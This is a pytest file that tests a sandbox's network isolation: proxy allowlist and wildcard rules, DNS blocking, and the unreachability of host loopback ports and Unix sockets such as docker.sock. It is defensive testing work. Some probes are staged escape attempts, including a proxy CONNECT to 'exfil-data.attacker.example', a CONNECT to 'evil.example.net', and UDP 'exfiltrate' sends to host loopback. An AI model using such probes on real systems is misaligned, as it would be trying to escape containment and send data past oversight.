"""The network (DESIGN.md §9 A-D): no route around the proxy, the proxy's own rules, no resolver,
no host sockets. Every address here is loopback: the allow path goes through the
``EGG_TEST_NETWORK`` seam, which resolves a name to a public-looking address (so the proxy's
address checks run as in production) and connects to a loopback listener instead."""

from __future__ import annotations

import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest

from .conftest import Box, Listen, Listener

PUBLIC = "93.184.216.34"  # what the seam says api.example.com resolves to
SEAM = "EGG_TEST_NETWORK"

PROXY = r"""
def via_proxy(target, payload=b"ping", method="CONNECT", path=""):
    proxy = os.environ.get("HTTPS_PROXY", "")
    if not proxy:
        return {"status": "no proxy variable"}
    host, port = proxy.split("://", 1)[1].rstrip("/").rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10)
    if method == "CONNECT":
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    else:
        sock.sendall(
            f"GET http://{target}{path} HTTP/1.1\r\nHost: {target}\r\n"
            "Proxy-Authorization: Basic c2VjcmV0\r\n\r\n".encode()
        )
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(4096)
        if not chunk:
            break
        head += chunk
    status = int(head.split(b" ")[1]) if head.startswith(b"HTTP/") else None
    reply = None
    if method == "CONNECT" and status == 200:
        sock.sendall(payload)
        reply = sock.recv(4096).decode()
    elif method != "CONNECT":
        reply = head.decode(errors="replace")
    sock.close()
    return {"status": status, "reply": reply}
"""


def seam(*mappings: tuple[str, str, int]) -> dict[str, str]:
    """``EGG_TEST_NETWORK`` for (name, address the name resolves to, loopback port)."""
    return {SEAM: ",".join(f"{name}={addr}@127.0.0.1:{port}" for name, addr, port in mappings)}


def log_lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


@pytest.fixture
def tcp(listen: Listen) -> Listener:
    return listen(socket.AF_INET, ("127.0.0.1", 0))


def free_port() -> int:
    """An unprivileged loopback port nothing listens on (the bridge cannot bind below 1024)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


POLICIES: dict[str, dict[str, Any] | None] = {
    "no-network": None,
    "allowlist": {"network": ["api.example.com"]},
    "observe": {"network": {"domains": ["api.example.com"], "mode": "observe"}},
    "other-local-port": {"network": {"local_ports": [free_port()]}},
}


# -- A: direct sockets around the proxy


@pytest.mark.parametrize("policy", list(POLICIES))
def test_tcp_to_a_host_loopback_port_is_unreachable(box: Box, tcp: Listener, policy: str) -> None:
    found = box.probe(
        f"report(connect=attempt(connect, socket.AF_INET, ('127.0.0.1', {tcp.port})))",
        config=POLICIES[policy],
    )

    assert found["connect"] != "ok"
    assert tcp.received_nothing()


@pytest.mark.parametrize("policy", ["no-network", "allowlist"])
def test_udp_to_a_host_loopback_port_never_arrives(box: Box, listen: Listen, policy: str) -> None:
    udp = listen(socket.AF_INET, ("127.0.0.1", 0), socket.SOCK_DGRAM)

    box.probe(
        "sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"results = [attempt(sock.sendto, b'exfiltrate', ('127.0.0.1', {udp.port}))"
        " for _ in range(5)]\n"
        "report(sent=results)",
        config=POLICIES[policy],
    )

    assert udp.received_nothing()


def test_ipv6_loopback_of_the_host_is_unreachable(box: Box, listen: Listen) -> None:
    tcp6 = listen(socket.AF_INET6, ("::1", 0))
    udp6 = listen(socket.AF_INET6, ("::1", 0), socket.SOCK_DGRAM)

    found = box.probe(
        f"report(tcp=attempt(connect, socket.AF_INET6, ('::1', {tcp6.port})),"
        f" udp=attempt(connect, socket.AF_INET6, ('::1', {udp6.port}), socket.SOCK_DGRAM))",
        config=POLICIES["allowlist"],
    )

    assert found["tcp"] != "ok"
    assert tcp6.received_nothing()
    assert udp6.received_nothing()


def test_abstract_unix_socket_of_the_host_is_unreachable(box: Box, listen: Listen) -> None:
    name = f"\0egg-test-{box.secret}"
    abstract = listen(socket.AF_UNIX, name)

    found = box.probe(
        f"report(connect=attempt(connect, socket.AF_UNIX, {name!r}))",
        config=POLICIES["allowlist"],
    )

    assert found["connect"] == "ECONNREFUSED"
    assert abstract.received_nothing()


@pytest.mark.parametrize("policy", ["no-network", "allowlist"])
def test_only_loopback_exists_and_there_is_no_route(box: Box, policy: str) -> None:
    found = box.probe(
        "routes = read('/proc/net/route').decode().splitlines()[1:]\n"
        "routes6 = [l for l in read('/proc/net/ipv6_route').decode().splitlines()"
        " if not l.rstrip().endswith('lo')]\n"
        "devices = read('/proc/net/dev').decode().splitlines()[2:]\n"
        "report(interfaces=sorted(l.split(':')[0].strip() for l in devices), routes=routes,"
        " routes6=routes6)",
        config=POLICIES[policy],
    )

    assert found == {"interfaces": ["lo"], "routes": [], "routes6": []}


# -- C: DNS


@pytest.fixture
def fake_resolvers(listen: Listen) -> Iterator[list[Listener]]:
    """UDP and TCP listeners on the loopback DNS addresses that are free on this host."""
    found = []
    for host in ("127.0.0.1", "127.0.0.53"):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            try:
                found.append(listen(socket.AF_INET, (host, 53), kind))
            except OSError:
                continue
    yield found


@pytest.mark.parametrize("policy", ["no-network", "allowlist"])
def test_no_dns_resolver_is_reachable(
    box: Box, fake_resolvers: list[Listener], policy: str
) -> None:
    query = struct.pack(">HHHHHH", 0x4567, 0x0100, 1, 0, 0, 0)
    query += b"".join(
        bytes([len(p)]) + p.encode() for p in f"x{box.secret[-8:]}.example.com".split(".")
    )
    query += b"\0\0\1\0\1"

    found = box.probe(
        f"query = {query!r}\n"
        "answers = {}\n"
        "for host in ('127.0.0.1', '127.0.0.53'):\n"
        "    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    sock.settimeout(1)\n"
        "    try:\n"
        "        sock.connect((host, 53))\n"
        "        sock.send(query)\n"
        "        answers[host] = repr(sock.recv(512))\n"
        "    except OSError as exc:\n"
        "        answers[host] = type(exc).__name__\n"
        "    answers[host + '/tcp'] = attempt(connect, socket.AF_INET, (host, 53))\n"
        "report(**answers)",
        config=POLICIES[policy],
    )

    assert all(v in ("ConnectionRefusedError", "ECONNREFUSED") for v in found.values()), found
    for resolver in fake_resolvers:
        assert resolver.received_nothing()


def test_unlisted_name_is_refused_without_being_resolved(box: Box) -> None:
    log = box.home / "network.log"

    found = box.probe(
        PROXY + "report(**via_proxy('exfil-data.attacker.example:443'))",
        config=POLICIES["allowlist"],
        options=["--network-log", str(log)],
        env=seam(("unrelated.example.com", PUBLIC, 9)),  # fails for any other name
    )

    assert found["status"] == 403
    (record,) = log_lines(log)
    assert record["decision"] == "deny"
    assert record["reason"] == "host not on the allowlist"


def test_allowed_name_that_does_not_resolve_is_allowed_but_unreachable(box: Box) -> None:
    """Not a policy decision: logged as allowed with the error, and the client told why."""
    log = box.home / "network.log"

    found = box.probe(
        PROXY + "report(**via_proxy('api.example.com:80', method='GET', path='/'))",
        config=POLICIES["allowlist"],
        options=["--network-log", str(log)],
        env=seam(("unrelated.example.com", PUBLIC, 9)),  # api.example.com does not resolve
    )

    assert found["status"] == 502
    assert "egg: cannot reach api.example.com:80 (name does not resolve)" in found["reply"]
    (record,) = log_lines(log)
    assert record["decision"] == "allow"
    assert record["listed"] is True
    assert record["error"].startswith("cannot resolve api.example.com")


def test_loopback_inside_the_sandbox_does_not_go_through_the_proxy(box: Box) -> None:
    """NO_PROXY names loopback: a server the command starts inside answers it directly (the
    sandbox's loopback is its own), while other names still go through the proxy."""
    found = box.probe(
        "import http.server, threading, urllib.request\n"
        "server = http.server.HTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)\n"
        "threading.Thread(target=server.serve_forever, daemon=True).start()\n"
        "port = server.server_address[1]\n"
        "codes = {}\n"
        "for name in ('127.0.0.1', 'localhost'):\n"
        "    try:\n"
        "        codes[name] = urllib.request.urlopen(f'http://{name}:{port}/', timeout=10).status\n"
        "    except Exception as exc:\n"
        "        codes[name] = str(getattr(exc, 'code', exc))\n"
        "report(codes=codes, no_proxy=os.environ.get('NO_PROXY'),"
        " proxy=bool(os.environ.get('HTTPS_PROXY')))",
        config=POLICIES["allowlist"],
    )

    assert found["codes"] == {"127.0.0.1": 200, "localhost": 200}
    assert found["proxy"] is True
    assert "127.0.0.1" in found["no_proxy"]


# -- B: the proxy's rules


def test_allowed_domain_is_reachable_through_the_proxy(box: Box, listen: Listen) -> None:
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)

    found = box.probe(
        PROXY + "report(**via_proxy('api.example.com:443', b'hello api'))",
        config=POLICIES["allowlist"],
        env=seam(("api.example.com", PUBLIC, server.port)),
    )

    assert found == {"status": 200, "reply": "pong:hello api"}
    assert server.hits == [b"hello api"]


def test_plain_http_to_an_allowed_domain_is_forwarded_without_proxy_headers(
    box: Box, listen: Listen
) -> None:
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)

    found = box.probe(
        PROXY + "report(**via_proxy('api.example.com', method='GET', path='/v1/models'))",
        config=POLICIES["allowlist"],
        env=seam(("api.example.com", PUBLIC, server.port)),
    )

    (request,) = server.hits
    assert request.startswith(b"GET /v1/models HTTP/1.1\r\n")
    assert b"proxy-authorization" not in request.lower()
    assert found["reply"].startswith("pong:GET /v1/models")


def test_connect_to_an_unlisted_domain_is_refused(box: Box, listen: Listen) -> None:
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)

    found = box.probe(
        PROXY + "report(**via_proxy('other.example.net:443'))",
        config=POLICIES["allowlist"],
        env=seam(("other.example.net", PUBLIC, server.port)),
    )

    assert found["status"] == 403
    assert server.received_nothing()


def test_a_wildcard_reaches_subdomains_only_never_a_lookalike_or_the_domain_itself(
    box: Box, listen: Listen
) -> None:
    """``*.example.com`` through the real proxy: a subdomain is reached, while ``evilexample.com``
    (the same letters, another domain) and ``example.com`` (a wildcard never covers the domain
    itself) are refused before anything is dialed, although the seam would reach the listener
    for all three."""
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
    log = box.home / "network.log"
    names = ["api.example.com", "evilexample.com", "example.com"]

    found = box.probe(
        PROXY + f"report(**{{n: via_proxy(n + ':443', n.encode()) for n in {names!r}}})",
        config={"network": ["*.example.com"]},
        options=["--network-log", str(log)],
        env=seam(*((name, PUBLIC, server.port) for name in names)),
    )

    assert found == {
        "api.example.com": {"status": 200, "reply": "pong:api.example.com"},
        "evilexample.com": {"status": 403, "reply": None},
        "example.com": {"status": 403, "reply": None},
    }
    assert server.hits == [b"api.example.com"]
    assert [(r["host"], r["decision"], r["reason"]) for r in log_lines(log)] == [
        ("api.example.com", "allow", "allowed by *.example.com"),
        ("evilexample.com", "deny", "host not on the allowlist"),
        ("example.com", "deny", "host not on the allowlist"),
    ]


def test_allowed_domain_on_an_unlisted_port_is_refused(box: Box, listen: Listen) -> None:
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)

    found = box.probe(
        PROXY + "report(**via_proxy('api.example.com:22'))",
        config=POLICIES["allowlist"],
        env=seam(("api.example.com", PUBLIC, server.port)),
    )

    assert found["status"] == 403
    assert server.received_nothing()


@pytest.mark.parametrize("address", ["127.0.0.1", "10.0.0.5", "169.254.169.254", "fd00::1"])
def test_allowed_name_resolving_to_a_non_public_address_is_refused(
    box: Box, listen: Listen, address: str
) -> None:
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)

    found = box.probe(
        PROXY + "report(**via_proxy('api.example.com:443'))",
        config=POLICIES["allowlist"],
        env=seam(("api.example.com", address, server.port)),
    )

    assert found["status"] == 403
    assert server.received_nothing()


def loopback_spellings(port: int) -> list[str]:
    """``HOST:PORT`` for the host's loopback on ``port``, in the spellings a proxy must know."""
    return [
        f"127.0.0.1:{port}",
        f"localhost:{port}",
        f"127.1.2.3:{port}",
        f"[::1]:{port}",
        f"[::ffff:127.0.0.1]:{port}",
        f"0.0.0.0:{port}",
    ]


def test_connect_to_a_host_loopback_port_through_the_proxy_is_refused(
    box: Box, listen: Listen
) -> None:
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
    port = server.port
    targets = loopback_spellings(port)

    found = box.probe(
        PROXY + f"report(**{{t: via_proxy(t)['status'] for t in {targets!r}}})",
        config=POLICIES["allowlist"],
        env=seam(("api.example.com", PUBLIC, port)),
    )

    assert found == dict.fromkeys(targets, 403)
    assert server.received_nothing()


def test_observe_mode_refuses_connect_to_a_host_loopback_port_through_the_proxy(
    box: Box, listen: Listen
) -> None:
    """Observe lets unlisted names through, never the host's own services: a CONNECT to a
    loopback port that is not forwarded is refused in observe mode as in enforce mode, in every
    spelling, and network.log says so (a refusal, not a would-deny)."""
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
    port = server.port
    log = box.home / "network.log"
    targets = loopback_spellings(port)

    found = box.probe(
        PROXY + f"report(**{{t: via_proxy(t)['status'] for t in {targets!r}}})",
        config=POLICIES["observe"],
        options=["--network-log", str(log)],
        env=seam(("api.example.com", PUBLIC, port)),
    )

    assert found == dict.fromkeys(targets, 403)
    assert server.received_nothing()
    records = log_lines(log)
    assert len(records) == len(targets), records
    for record in records:
        assert record["port"] == port and record["decision"] == "deny", record
        assert record["reason"] == f"loopback port {port} is not a forwarded local port", record
        assert "would_deny" not in record, record


def test_forwarded_local_port_answers(box: Box, listen: Listen) -> None:
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)

    found = box.probe(
        f"sock = socket.create_connection(('127.0.0.1', {server.port}), timeout=5)\n"
        "sock.sendall(b'hello model')\n"
        "report(reply=sock.recv(100).decode())",
        config={"network": {"local_ports": [server.port]}},
    )

    assert found == {"reply": "pong:hello model"}
    assert server.hits == [b"hello model"]


def test_observe_mode_allows_an_unlisted_domain_and_logs_would_deny(
    box: Box, listen: Listen
) -> None:
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
    log = box.home / "network.log"

    found = box.probe(
        PROXY + "report(**via_proxy('unlisted.example.org:443', b'observed'))",
        config=POLICIES["observe"],
        env=seam(("unlisted.example.org", PUBLIC, server.port)),
        options=["--network-log", str(log)],
    )

    assert found == {"status": 200, "reply": "pong:observed"}
    (record,) = log_lines(log)
    assert record["host"] == "unlisted.example.org"
    assert record["decision"] == "allow"
    assert record["would_deny"] is True


def test_network_log_has_one_json_line_per_decision(box: Box, listen: Listen) -> None:
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
    log = box.home / "network.log"

    box.probe(
        PROXY + "report(a=via_proxy('api.example.com:443'), b=via_proxy('evil.example.net:443'))",
        config=POLICIES["allowlist"],
        env=seam(("api.example.com", PUBLIC, server.port)),
        options=["--network-log", str(log)],
    )

    records = log_lines(log)
    assert [(r["host"], r["port"], r["decision"]) for r in records] == [
        ("api.example.com", 443, "allow"),
        ("evil.example.net", 443, "deny"),
    ]
    assert all(r["time"].endswith("Z") and r["reason"] for r in records)


# -- D: unix sockets


def unix_listener(box: Box, listen: Listen, path: Path) -> Listener:
    box.mkdir(path.parent)
    listener = listen(socket.AF_UNIX, str(path))
    os.chmod(path, 0o777)
    os.chown(path, box.identity.uid, box.identity.gid)
    return listener


def assert_unreachable(box: Box, listen: Listen, path: Path) -> None:
    """A host socket listening at ``path``: connecting from the sandbox fails, nothing arrives."""
    server = unix_listener(box, listen, path)

    found = box.probe(f"report(connect=attempt(connect, socket.AF_UNIX, {str(path)!r}))")

    assert found["connect"] != "ok"
    assert server.received_nothing()


@pytest.mark.parametrize("relative", ["tmux.sock", "tmux-1000/default"])
def test_host_socket_in_the_workspace_is_unreachable(
    box: Box, listen: Listen, relative: str
) -> None:
    assert_unreachable(box, listen, box.workspace / relative)


def test_host_socket_in_home_is_unreachable(box: Box, listen: Listen) -> None:
    assert_unreachable(box, listen, box.home / ".ide" / "ipc.sock")


@pytest.mark.parametrize(
    "relative",
    [
        ".colima/default/docker.sock",
        ".lima/default/sock/agent.sock",
        ".local/share/app/run/a/b/ipc.sock",
        ".docker/desktop/docker.sock",  # ~/.docker is denied anyway (registry credentials)
    ],
)
def test_host_socket_deep_in_home_is_unreachable(box: Box, listen: Listen, relative: str) -> None:
    # container engines' sockets three or four levels down: below what directory scans reach
    assert_unreachable(box, listen, box.home / relative)


def test_host_socket_deep_in_the_workspace_is_unreachable(box: Box, listen: Listen) -> None:
    assert_unreachable(
        box, listen, box.workspace / "services" / "db" / "run" / "deep" / "postgres.sock"
    )


def test_host_socket_outside_home_and_workspace_is_unreachable(box: Box, listen: Listen) -> None:
    # the read-only root shows the whole host; the socket is in no directory any rule names
    assert_unreachable(box, listen, box.root / "srv" / "engine" / "api.sock")


def test_host_datagram_socket_deep_in_home_is_unreachable(box: Box, listen: Listen) -> None:
    path = box.home / ".local" / "state" / "logger" / "log.sock"
    box.mkdir(path.parent)
    server = listen(socket.AF_UNIX, str(path), kind=socket.SOCK_DGRAM)
    os.chmod(path, 0o777)

    # a datagram socket names its destination in each send, where a filter cannot look: the
    # sandbox gets none (socketpair included), so nothing reaches a host datagram socket
    found = box.probe(
        "def send(family, kind):\n"
        "    s = socket.socket(family, kind)\n"
        f"    s.sendto(b'from the sandbox', {str(path)!r})\n"
        "report(dgram=attempt(send, socket.AF_UNIX, socket.SOCK_DGRAM),"
        " nonblocking=attempt(send, socket.AF_UNIX, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK),"
        " pair=attempt(socket.socketpair, socket.AF_UNIX, socket.SOCK_DGRAM),"
        " stream_pair=attempt(socket.socketpair, socket.AF_UNIX, socket.SOCK_STREAM))"
    )

    assert found == {
        "dgram": "EACCES",
        "nonblocking": "EACCES",
        "pair": "EACCES",
        "stream_pair": "ok",
    }
    assert server.received_nothing()


def test_host_socket_through_a_bound_symlinked_path_is_unreachable(
    box: Box, listen: Listen
) -> None:
    # bound as .../link/ipc.sock where link -> real: the mask goes on the resolved path
    real = box.root / "real-sockets" / "a" / "b"
    box.mkdir(real)
    link = box.home / ".cache" / "tool" / "link"
    box.mkdir(link.parent)
    link.symlink_to(real)
    server = listen(socket.AF_UNIX, str(link / "ipc.sock"))
    os.chmod(real / "ipc.sock", 0o777)

    found = box.probe(
        f"report(via_link=attempt(connect, socket.AF_UNIX, {str(link / 'ipc.sock')!r}),"
        f" direct=attempt(connect, socket.AF_UNIX, {str(real / 'ipc.sock')!r}))"
    )

    assert found["via_link"] != "ok"
    assert found["direct"] != "ok"
    assert server.received_nothing()


def test_jail_mode_masks_deep_sockets_it_exposes_and_starts_with_hidden_ones(
    box: Box, listen: Listen
) -> None:
    exposed = box.workspace / "a" / "b" / "c" / "exposed.sock"
    hidden = box.root / "elsewhere" / "x" / "y" / "hidden.sock"
    servers = [unix_listener(box, listen, exposed), unix_listener(box, listen, hidden)]
    box.config({"fs": ["deny:/", "rw:./"]})

    found = box.probe(
        f"report(exposed=attempt(connect, socket.AF_UNIX, {str(exposed)!r}),"
        f" hidden=attempt(connect, socket.AF_UNIX, {str(hidden)!r}))"
    )

    assert found["exposed"] != "ok"
    assert found["hidden"] == "ENOENT"
    assert all(server.received_nothing() for server in servers)
    assert not (box.root / "elsewhere" / "x" / "y" / "hidden.sock").is_file()


def test_a_host_socket_a_rule_names_stays_reachable(box: Box, listen: Listen) -> None:
    allowed = box.root / "services" / "a" / "b" / "allowed.sock"
    other = allowed.with_name("other.sock")
    servers = [unix_listener(box, listen, allowed), unix_listener(box, listen, other)]
    box.config({"fs": [f"ro:{allowed}"]})

    found = box.probe(
        f"report(allowed=attempt(connect, socket.AF_UNIX, {str(allowed)!r}),"
        f" other=attempt(connect, socket.AF_UNIX, {str(other)!r}))"
    )

    assert found["allowed"] == "ok"
    assert found["other"] != "ok"
    assert servers[1].received_nothing()


def test_host_socket_under_a_denied_dir_a_rule_reopens_is_unreachable(
    box: Box, listen: Listen
) -> None:
    path = box.home / "secret" / "proj" / "a" / "b" / "c.sock"
    server = unix_listener(box, listen, path)
    box.config({"fs": ["deny:~/secret", "rw:~/secret/proj"]})

    found = box.probe(f"report(connect=attempt(connect, socket.AF_UNIX, {str(path)!r}))")

    assert found["connect"] != "ok"
    assert server.received_nothing()


def test_host_socket_under_tmp_a_rule_exposes_is_unreachable(box: Box, listen: Listen) -> None:
    work = Path(tempfile.mkdtemp(prefix="egg-sock-", dir="/tmp"))
    try:
        os.chmod(work, 0o755)
        path = work / "a" / "b" / "c" / "d.sock"
        server = unix_listener(box, listen, path)
        box.config({"fs": [f"rw:{work}"]})

        found = box.probe(f"report(connect=attempt(connect, socket.AF_UNIX, {str(path)!r}))")

        assert found["connect"] != "ok"
        assert server.received_nothing()
    finally:
        shutil.rmtree(work, ignore_errors=True)


def test_host_socket_bound_through_a_tmp_symlink_is_unreachable(box: Box, listen: Listen) -> None:
    real = box.home / ".cache" / "app" / "x" / "y"
    box.mkdir(real)
    scratch = Path(tempfile.mkdtemp(prefix="egg-sock-", dir="/tmp"))
    try:
        os.chmod(scratch, 0o755)  # the user's own path: egg resolves it as the user
        (scratch / "lnk").symlink_to(real)
        server = listen(socket.AF_UNIX, str(scratch / "lnk" / "ipc.sock"))
        os.chmod(real / "ipc.sock", 0o777)

        found = box.probe(
            f"report(connect=attempt(connect, socket.AF_UNIX, {str(real / 'ipc.sock')!r}))"
        )

        assert found["connect"] != "ok"
        assert server.received_nothing()
    finally:
        shutil.rmtree(scratch, ignore_errors=True)


def test_host_socket_behind_a_bind_mount_alias_is_unreachable(box: Box, listen: Listen) -> None:
    data, alias = box.root / "data", box.root / "alias"
    box.mkdir(data)
    box.mkdir(alias)
    subprocess.run(["mount", "--bind", str(data), str(alias)], check=True)
    try:
        server = unix_listener(box, listen, alias / "a" / "b" / "s.sock")
        through_data = data / "a" / "b" / "s.sock"

        found = box.probe(
            f"report(connect=attempt(connect, socket.AF_UNIX, {str(through_data)!r}))"
        )

        assert found["connect"] != "ok"
        assert server.received_nothing()
    finally:
        subprocess.run(["umount", "-l", str(alias)], check=False)


def test_jail_mode_masks_sockets_in_the_agents_prefix_siblings(box: Box, listen: Listen) -> None:
    box.mkdir(box.home / ".claude")  # its rw-prefix rule also binds ~/.claude-ide
    path = box.home / ".claude-ide" / "a" / "b" / "s.sock"
    server = unix_listener(box, listen, path)
    box.config({"fs": ["deny:/", "rw:./"]})

    found = box.probe(
        f"report(connect=attempt(connect, socket.AF_UNIX, {str(path)!r}))",
        options=["--agent", "claude"],
    )

    assert found["connect"] != "ok"
    assert server.received_nothing()


def test_a_host_socket_the_sandbox_moves_stays_unreachable(box: Box, listen: Listen) -> None:
    # the workspace is the sandbox's to rearrange; wherever the host's socket ends up (moved,
    # linked, its directories renamed), it is still the host's: judged at connect, not by path
    path = box.workspace / ".ide" / "run" / "ctl.sock"
    server = unix_listener(box, listen, path)
    targets = [
        ("ide", "x/y/z/.ide/run/ctl.sock"),
        ("run", "x/y/z/run/ctl.sock"),
        ("sock", "x/y/z/ctl.sock"),
        ("link", "x/y/z/hard.sock"),
        ("original", ".ide/run/ctl.sock"),
    ]
    connects = ", ".join(
        f"{name}=attempt(connect, socket.AF_UNIX, {str(box.workspace / where)!r})"
        for name, where in targets
    )

    moved = box.probe(
        "os.makedirs('x/y/z')\n"
        "os.link('.ide/run/ctl.sock', 'x/y/z/hard.sock')\n"
        "os.makedirs('.ide2/run')\n"
        "os.rename('.ide/run/ctl.sock', '.ide2/run/ctl.sock')\n"
        "os.rename('.ide2', 'x/y/z/.ide')\n"
        "os.symlink('.ide', 'x/y/z/run-parent')\n"
        f"report(link_made=os.path.exists('x/y/z/hard.sock'), {connects})"
    )
    later = box.probe(f"report({connects})")

    assert moved.pop("link_made") is True
    assert "ok" not in moved.values(), moved
    assert "ok" not in later.values(), later
    assert server.received_nothing()


def test_dead_sockets_a_sandbox_leaves_cannot_crowd_out_a_scanned_socket(
    box: Box, listen: Listen
) -> None:
    # a socket bound in another network namespace is not in this one's table: only the scan of
    # home finds it, and 250 dead ones in the workspace must not use up the scan's masks first
    box.py(
        "import socket\nos.makedirs('litter')\n"
        "for n in range(250):\n"
        "    socket.socket(socket.AF_UNIX).bind(f'litter/{n}.sock')\n"
    )
    path = box.home / ".ide" / "other-netns.sock"
    box.mkdir(path.parent)
    server = subprocess.Popen(
        [
            "unshare",
            "--net",
            sys.executable,
            "-c",
            "import socket, sys, time\n"
            f"s = socket.socket(socket.AF_UNIX); s.bind({str(path)!r}); s.listen()\n"
            "print('ready', flush=True); time.sleep(60)",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert server.stdout is not None and server.stdout.readline().strip() == "ready"
        os.chmod(path, 0o777)

        found = box.probe(f"report(connect=attempt(connect, socket.AF_UNIX, {str(path)!r}))")

        assert found["connect"] != "ok"
    finally:
        server.kill()
        server.wait()


def test_dead_sockets_a_sandbox_leaves_behind_cannot_stop_launches(box: Box) -> None:
    box.py(
        "import socket\nos.makedirs('litter')\n"
        "for n in range(1200):\n"
        "    socket.socket(socket.AF_UNIX).bind(f'litter/{n}.sock')\n"
    )

    result = box.exec("sh", "-c", "touch started")

    assert result.returncode == 0, result.stderr
    assert (box.workspace / "started").exists()


@pytest.mark.parametrize("layout", ["one-directory", "500-directories"])
def test_thousands_of_visible_host_sockets_neither_stop_a_launch_nor_are_reachable(
    box: Box, layout: str
) -> None:
    count = 5000
    places = 1 if layout == "one-directory" else 500
    servers = []
    paths = []
    try:
        for number in range(count):
            directory = box.home / "crowd" / f"d{number % places}"
            if number < places:
                box.mkdir(directory)
            path = directory / f"{number}.sock"
            server = socket.socket(socket.AF_UNIX)
            server.bind(str(path))
            server.listen(1)
            os.chmod(path, 0o777)
            servers.append(server)
            paths.append(str(path))
        sample = paths[:: count // 50]
        found = box.probe(
            f"paths = {sample!r}\n"
            "report(reached=[p for p in paths if attempt(connect, socket.AF_UNIX, p) == 'ok'],"
            " refused=sorted({attempt(connect, socket.AF_UNIX, p) for p in paths}))"
        )
        for server in servers:
            server.setblocking(False)
            with pytest.raises(BlockingIOError):
                server.accept()
    finally:
        for server in servers:
            server.close()

    assert found == {"reached": [], "refused": ["EACCES"]}


def test_a_host_socket_reached_through_a_symlink_stays_unreachable_however_it_is_repointed(
    box: Box, listen: Listen
) -> None:
    # bound through ./sub/run -> deep/a/b/c, and through a link in the workspace root
    deep = box.workspace / "sub" / "deep" / "a" / "b" / "c"
    box.mkdir(deep)
    (box.workspace / "sub" / "run").symlink_to("deep/a/b/c")
    (box.workspace / "run").symlink_to("sub/deep/a/b/c")
    server = listen(socket.AF_UNIX, str(box.workspace / "sub" / "run" / "ipc.sock"))
    os.chmod(deep / "ipc.sock", 0o777)

    first = box.probe(
        "report(before=attempt(connect, socket.AF_UNIX, 'sub/run/ipc.sock'),"
        " root_link=attempt(connect, socket.AF_UNIX, 'run/ipc.sock'),"
        " unlink=attempt(os.unlink, 'sub/run'), relink=attempt(os.symlink, 'deep', 'sub/run'),"
        " rename=attempt(os.rename, 'sub', 'moved'),"
        " after=attempt(connect, socket.AF_UNIX, 'moved/deep/a/b/c/ipc.sock'))"
    )
    found = box.probe(
        f"report(connect=attempt(connect, socket.AF_UNIX, {str(deep / 'ipc.sock')!r}),"
        " moved=attempt(connect, socket.AF_UNIX, 'moved/deep/a/b/c/ipc.sock'))"
    )

    assert first["unlink"] == first["relink"] == first["rename"] == "ok", first
    assert first["before"] == first["root_link"] == first["after"] == "EACCES", first
    assert found == {"connect": "ENOENT", "moved": "EACCES"}
    assert server.received_nothing()


def test_a_rule_above_a_replaced_tree_does_not_bring_the_hosts_back(
    box: Box, listen: Listen
) -> None:
    host_tmp = Path(tempfile.mkdtemp(prefix="egg-var-tmp-", dir="/var/tmp"))
    try:
        os.chmod(host_tmp, 0o755)
        (host_tmp / "secret.txt").write_text(box.secret)
        os.chmod(host_tmp / "secret.txt", 0o644)
        server = unix_listener(box, listen, host_tmp / "s.sock")
        box.config({"fs": ["ro:/var"]})

        found = box.probe(
            f"report(read=attempt(read, {str(host_tmp / 'secret.txt')!r}),"
            f" connect=attempt(connect, socket.AF_UNIX, {str(host_tmp / 's.sock')!r}))"
        )

        assert found == {"read": "ENOENT", "connect": "ENOENT"}
        assert server.received_nothing()
    finally:
        shutil.rmtree(host_tmp, ignore_errors=True)


#: Runs its arguments (after ``TARGET SOURCE SCRATCH``) in a private mount namespace where
#: ``TARGET`` is a bind of ``SOURCE``: the nearest existing ancestor of ``TARGET`` is overlaid
#: (upper layer in ``SCRATCH``) so missing directories and the placeholder exist only there.
PRIVATE_PATH = r"""
set -e
target=$1 source=$2 scratch=$3; shift 3
anchor=$(dirname "$target")
while [ ! -e "$anchor" ]; do anchor=$(dirname "$anchor"); done
mkdir -p "$scratch/upper" "$scratch/work"
mount -t overlay overlay -o "lowerdir=$anchor,upperdir=$scratch/upper,workdir=$scratch/work" "$anchor"
mkdir -p "$(dirname "$target")"
: > "$target"
mount --bind "$source" "$target"
exec "$@"
"""


@attrs.frozen
class EngineSocket:
    """A container-engine control socket at its well-known path, and how to run egg so that it
    is there: the host's real one (``listener`` None: only the sandbox side can be checked), or
    a stand-in listener that exists at that path only in the mount namespace ``within`` makes,
    so no other test or run on the host ever sees it (the exec cache fingerprints these paths:
    a host-global stand-in made other tests' cache hits miss)."""

    path: Path
    listener: Listener | None = None
    within: tuple[str, ...] = ()


@pytest.fixture(params=["/run/docker.sock", "/var/lib/incus/unix.socket"])
def engine_socket(
    request: pytest.FixtureRequest, listen: Listen, tmp_path: Path
) -> Iterator[EngineSocket]:
    path = Path(request.param)
    if os.path.lexists(path):
        yield EngineSocket(path)
        return
    listener = listen(socket.AF_UNIX, str(tmp_path / "engine.sock"))
    os.chmod(tmp_path / "engine.sock", 0o666)
